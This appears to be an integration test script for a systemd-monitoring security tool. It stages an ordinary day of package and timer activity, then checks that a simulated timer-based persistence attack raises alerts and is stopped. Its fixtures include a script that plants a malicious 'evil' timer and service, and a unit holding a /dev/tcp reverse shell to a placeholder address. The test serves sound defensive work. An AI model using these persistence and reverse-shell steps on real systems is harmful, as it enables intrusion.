#!/bin/bash
# What systemd starts is judged: T1053.006 is one alert that tells the whole story, a day of ordinary work is none. The
# day's timers come every few seconds, which is odder than they are. An administrator's own unit that calls back is an alert
# too, and stopped where the policy says so. In enforce mode the day is tried with ALL=1.
# shellcheck source-path=SCRIPTDIR source=people.sh
. "$(dirname "$0")/people.sh"
# shellcheck source-path=SCRIPTDIR source=lib.sh
. "$(dirname "$0")/lib.sh"

units=/etc/systemd/system
timers='logrotate man-db apt-daily systemd-tmpfiles-clean fstrim dpkg-db-backup'

# Both authorised by the first baseline, drop-ins for what is not installed yet too.
prepare() {
	local each
	people_prepare "$1"
	for each in $timers; do
		mkdir -p "$1$units/$each.timer.d" "$1$units/$each.service.d"
		printf '[Unit]\nConditionVirtualization=\n[Timer]\nOnCalendar=\nOnActiveSec=3\nOnUnitInactiveSec=5\n%s\n' \
			$'AccuracySec=100ms\nRandomizedDelaySec=0\nPersistent=no' >"$1$units/$each.timer.d/often.conf"
		printf '[Unit]\nConditionVirtualization=\nConditionACPower=\n[Service]\nStateDirectory=\n' >"$1$units/$each.service.d/anywhere.conf"
	done
	for each in apt-daily fstrim dpkg-db-backup; do
		ln -sf "/lib/systemd/system/$each.timer" "$1$units/timers.target.wants/"
	done
	echo 'APT::Periodic::Update-Package-Lists "always";' >"$1/etc/apt/apt.conf.d/99often"
	echo '* * * * * root touch /srv/marker/cron' >"$1/etc/cron.d/beat"
	[ "$mode" != enforce ] || echo 'detection: { stop_score = 75; };' >"$1/etc/unitward/policy.d/stop.conf"
	cat >"$1/srv/attack" <<-'END'
		#!/bin/bash
		cd /etc/systemd/system
		printf '[Service]\nType=oneshot\nExecStart=/bin/bash -c "echo >>/srv/marker/beacon; cp -f /srv/stage/next.service /etc/systemd/system/; sleep 0.3; :"\n' >evil.service
		printf '[Timer]\nOnActiveSec=1\nOnUnitInactiveSec=2\nAccuracySec=100ms\n' >evil.timer
		systemctl daemon-reload
		systemctl start evil.timer
	END
	printf '[Service]\nExecStart=/bin/true\n' >"$1/srv/stage/next.service"
	printf '[Service]\nExecStart=/usr/bin/sleep infinity\n' >"$1/srv/stage/own.service"
	printf '[Service]\nExecStart=/bin/bash -c "sleep 600; bash -i >& /dev/tcp/192.0.2.10/4444 0>&1"\n' >"$1/srv/stage/back.service"
	chmod +x "$1/srv/attack"
}

# ---- what was recorded ----

alerts() { in_container unitward events --json | jq -c 'select(.unitward.kind == "alert")'; }
alerts_of() { alerts | jq -c --arg unit "$1" 'select(.unitward.target_unit == $unit)'; }
has_alert() { [ -n "$(alerts_of "$1")" ]; }
one_alert() { # UNIT: and no other of any unit
	local units
	units=$(alerts | jq -r .unitward.target_unit | xargs)
	[ "$units" = "$1" ] || { echo "alerts: $units"; return 1; }
}
no_alert() {
	local said
	said=$(alerts)
	[ -z "$said" ] || { jq -r '"\(.message) (\(.unitward.reasons | join(", ")))"' <<<"$said"; return 1; }
}
suspicions() { in_container unitward events --json | jq -c 'select(.unitward.kind == "start")' | wc -l; }
has_record() { in_container unitward events --json | jq -es "any(.[]; $1)" >/dev/null; }
names() { # CONDITION: the alert says so
	alerts_of evil.service | jq -e "$1" >/dev/null || { alerts_of evil.service | jq -c 'del(.unitward.ancestry)'; return 1; }
}
tells() { # REGEX
	in_container unitward events --alerts >"$work/story"
	grep -qE -- "$1" "$work/story" || { cat "$work/story"; return 1; }
}
report_tells() { # CONDITION: of its facts
	in_container unitward report --json >"$work/report" || return
	jq -e "$1" "$work/report" >/dev/null || { jq -c '{daemon, events, coverage}' "$work/report"; return 1; }
}
starts_seen() { in_container unitward status --json | jq .starts.seen; }
saw_starts() { [ "$(starts_seen)" -ge "$1" ] || { starts_seen; return 1; }; }
lines_in() { wc -l <"$root/srv/marker/$1" 2>/dev/null || echo 0; }
has_lines() { [ "$(lines_in "$1")" -ge "$2" ]; }

# ---- the day ----

apt() { as operator "DEBIAN_FRONTEND=noninteractive apt-get -qq -o DPkg::Lock::Timeout=60 -o DPkg::Options::=--force-unsafe-io -y $*"; }
elapsed_of() { in_container systemctl show -P ExecMainStartTimestampMonotonic "$1.service"; }
has_run() { [ "$(elapsed_of "$1")" -gt 0 ]; }
marked() { [ -e "$root/srv/marker/$1" ]; }

a_day() {
	local each older
	expect "packages with timers are installed" apt install logrotate man-db
	expect "needrestart is installed, and looks" apt install needrestart
	older=$(in_container apt-cache madison openssh-server | tail -n 1 | cut -d '|' -f 2 | tr -d ' ')
	expect "packages are taken back" apt --allow-downgrades install openssh-{server,client,sftp-server}="$older"
	expect "packages are upgraded" apt install openssh-{server,client,sftp-server}
	expect "a package is removed" apt purge at
	expect "daemon-reload, restart" as operator "systemctl daemon-reload; systemctl restart cron.service"
	expect "a transient service of an administrator's" as operator "systemd-run --quiet --wait id"
	expect "a user's manager, and a scope" as user "systemctl --user is-system-running --wait; systemd-run --user --scope --quiet true"
	expect "a user's timer" as user "systemctl --user list-timers"
	expect "a shell's work" as operator "for i in {1..50}; do /bin/true; done"
	for each in $timers; do
		expect "$each.timer has come" await 30 has_run "$each"
	done
	expect "cron has come" await 65 marked cron
	expect "what systemd started was looked at" await 5 saw_starts 30
}

# ---- the attack ----

attack_audited() {
	expect "T1053.006: planted and started" as service /srv/attack
	expect "it runs, several times" await 30 has_lines beacon 3
	expect "an alert" await 5 has_alert evil.service
	expect "one, however often it is started" one_alert evil.service
	expect "it names who wrote it" names '[.unitward.changes[] | select(.by.executable == "/usr/bin/bash" and .by.unit == "agent.service")
		| .path] | contains(["/etc/systemd/system/evil.service", "/etc/systemd/system/evil.timer"])'
	expect "it names unit, timer and interval" names '.unitward.target_unit == "evil.service" and .unitward.timer == "evil.timer"
		and .unitward.timer_interval == 2 and .file.path == "/etc/systemd/system/evil.service"'
	expect "it names the child, its command and its parent" names '.process.executable == "/usr/bin/bash" and .process.pid > 1
		and (.process.command_line | startswith("/bin/bash -c echo")) and .process.parent.pid == 1
		and .process.parent.executable == "/usr/lib/systemd/systemd" and .user.id == "0"'
	expect "it says why" names '.unitward.reasons | contains(["writer-refused", "unit-new", "interval-short"])'
	expect "when it was loaded" names '.unitward.loaded != null'
	expect "what it touched next is told" await 5 has_record '.file.path == "/etc/systemd/system/next.service" and .unitward.alert_id != null'
	expect "story: who wrote it" tells '(create|modify) /etc/systemd/system/evil.timer by /usr/bin/bash \(pid [0-9]+, uid 0, agent.service\)'
	expect "story: what it did next" tells '/etc/systemd/system/next.service'
	expect "story: what to do" tells "unitward approve $units/evil.service $units/evil.timer; it does not: systemctl stop evil.timer evil.service\$"
	expect "the report has the alert, and what was not prevented" report_tells '.events.alerts.rows[0].unit == "evil.service"
		and .daemon.status.mode == "audit" and .events.techniques["T1053.006"].unprevented > 0'
	expect "the report: what the policy says to an intruder" report_tells '[.coverage[] | select(.id == "T1053.006" or .id == "T1543.002"
		or .id == "T1562.001" or .id == "T1569.002") | .tries[].outcome] | length > 10 and all(. != "allow")'
	expect "Sigma rules find it" sigma_rules_fire
}

sigma_rules_fire() {
	local each said python
	for python in python3 /usr/bin/python3; do ! "$python" -c 'import yaml' 2>/dev/null || break; done
	in_container cat /var/log/unitward/events.jsonl >"$work/events"
	said=$("$python" "$top/tests/integration/sigma.py" fire "$top/packaging/sigma" "$work/events") || return
	for each in unitward_alert unitward_timer_short_interval unitward_timer_planted unitward_change_unauthorised; do
		grep -qx "$each" <<<"$said" || { echo "$each is not among: ${said//$'\n'/ }"; return 1; }
	done
}

is_stopped() { [ "$(in_container systemctl show -P ActiveState "$1")" != active ] && has_record ".unitward.target_unit == \"$1\" and .unitward.response == \"stop\" and .unitward.response_done"; }

attack_enforced() {
	local each
	as service /srv/attack >/dev/null 2>&1
	expect "T1053.006: never planted" test ! -e "$root$units/evil.timer"
	expect "so nothing was started" test ! -e "$root/srv/marker/beacon"
	expect "an administrator's unit calls back" as operator \
		"unitward install /srv/stage/back.service && systemctl daemon-reload && systemctl start back.service"
	expect "that is an alert" await 5 has_alert back.service
	expect "and is stopped" await 10 is_stopped back.service
	for each in own agent ssh; do expect "$each.service is not" in_container systemctl is-active "$each.service"; done
	expect "one alert" one_alert back.service
}

for mode in $(modes audit enforce); do
	boot "$mode" || continue
	expect "everybody logs in" people_log_in
	if [ "$mode" = audit ] || [ -n "${ALL-}" ]; then a_day; fi
	expect "an administrator's service" as operator "unitward install /srv/stage/own.service && systemctl daemon-reload && systemctl start own.service"
	expect "none of it is an alert, and $(suspicions) starts are worth a record" no_alert
	expect "nothing denied" nothing_denied
	if [ "$mode" = audit ]; then attack_audited; else attack_enforced; fi
	halt
done
